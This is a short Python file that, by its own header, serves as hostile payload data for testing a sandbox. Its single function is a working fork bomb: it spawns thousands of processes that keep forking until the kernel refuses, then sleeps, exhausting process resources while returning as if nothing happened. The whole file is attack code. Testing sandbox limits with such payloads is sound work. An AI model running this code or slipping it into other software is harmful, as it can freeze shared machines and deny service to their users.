# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Fork until the kernel refuses; every child sleeps, then return as if nothing happened."""

import os
import time


def attack():
    made = 0
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(1000)
            finally:
                os._exit(0)
        made += 1
    return made
